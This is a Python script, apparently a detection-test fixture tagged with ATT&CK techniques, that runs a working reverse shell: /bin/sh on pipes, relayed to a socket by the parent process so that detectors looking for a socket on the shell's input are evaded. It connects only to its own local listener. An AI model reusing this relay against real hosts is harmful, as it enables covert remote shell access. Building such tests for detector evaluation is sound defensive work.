# technique: T1059.004 T1095
"""Reverse shell on pipes, relayed to a socket by the Python parent (T1059.004, T1095).

The shell never touches the socket: it runs on ordinary pipes
(subprocess.PIPE), and the Python process copies bytes between the
connected socket and the pipes in a select() loop. A detector that looks
for a socket on the shell's standard input sees only pipes; the link is
the data flow.

A good detector raises a high alert: a process connected to a network peer
starts a shell and relays its input and output.
"""
import os
import select
import socket
import subprocess
import threading

def start_operator(commands=b"echo operator-sees-$(id -u)\nexit\n"):
    """Our own peer on 127.0.0.1: accepts one connection, types commands, reads until the shell ends."""
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    listener.bind(("127.0.0.1", 0))
    listener.listen(1)
    listener.settimeout(4)
    transcript = []

    def operator():
        try:
            conn, _ = listener.accept()
        except OSError:
            return
        conn.settimeout(3)
        conn.sendall(commands)
        data = b""
        try:
            while True:
                chunk = conn.recv(4096)
                if not chunk:
                    break
                data += chunk
        except OSError:
            pass
        transcript.append(data)
        conn.close()

    thread = threading.Thread(target=operator, daemon=True)
    thread.start()
    return listener.getsockname()[1], thread, transcript

port, operator, transcript = start_operator()
sock = socket.create_connection(("127.0.0.1", port), timeout=5)
shell = subprocess.Popen(["/bin/sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
out_fd = shell.stdout.fileno()
open_streams = {sock.fileno(), out_fd}
while open_streams:
    ready, _, _ = select.select(list(open_streams), [], [], 5)
    if not ready:
        break
    for fd in ready:
        data = os.read(fd, 4096)
        if fd == out_fd:
            if not data:
                open_streams.clear()
                break
            sock.sendall(data)
        else:
            if not data:
                open_streams.discard(fd)
                shell.stdin.close()
                continue
            shell.stdin.write(data)
            shell.stdin.flush()
shell.wait(timeout=5)
sock.close()
operator.join(3)
print("operator transcript:", transcript)
